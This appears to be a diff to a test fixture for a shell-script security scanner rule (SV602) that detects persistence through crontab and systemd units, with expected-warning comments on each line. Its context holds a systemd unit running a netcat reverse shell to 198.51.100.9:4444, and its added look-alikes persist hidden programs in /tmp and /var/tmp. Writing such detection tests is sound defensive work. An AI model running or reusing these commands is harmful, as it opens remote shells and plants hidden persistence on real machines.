@@ -44,3 +44,22 @@ sudo tee /etc/systemd/system/m.service >/dev/null <<UNIT # want "high SV602: .*m
 [Service]
 ExecStart=/usr/bin/env -S "sh -c 'nc 198.51.100.9 4444 -e /bin/sh'"
 UNIT
+
+# A schedule computed from the user's time, a cd into the script's own
+# directory, and unit settings filled in when the file is written: medium.
+t="${2:-03:30}"
+echo "$(echo "$t" | cut -d: -f2) $(echo "$t" | cut -d: -f1) * * * cd $(cd "$(dirname "$0")" && pwd) && bash backup.sh --quiet" | crontab - # want "medium SV602: .*installs a crontab that runs bash backup.sh"
+sudo tee /etc/systemd/system/media-web.service >/dev/null <<UNIT # want "medium SV602: .*media-web.service, which runs automatically"
+[Service]
+User=$(whoami)
+WorkingDirectory=$(pwd)
+ExecStart=/usr/bin/java -Xmx2G -jar server.jar nogui
+UNIT
+# Look-alikes: the same shapes running a temporary or hidden program.
+echo "$(echo "$t" | cut -d: -f2) * * * * cd /tmp && ./.u" | crontab - # want "high SV602: persistence: installs a crontab$"
+sudo tee /etc/systemd/system/media-x.service >/dev/null <<UNIT # want "high SV602: .*media-x.service, which runs automatically$"
+[Service]
+User=$(whoami)
+ExecStart=/var/tmp/.x/run
+UNIT
+echo "0 1 * * * cd /opt/other && bash backup.sh" | crontab - # want "high SV602: persistence: installs a crontab$"
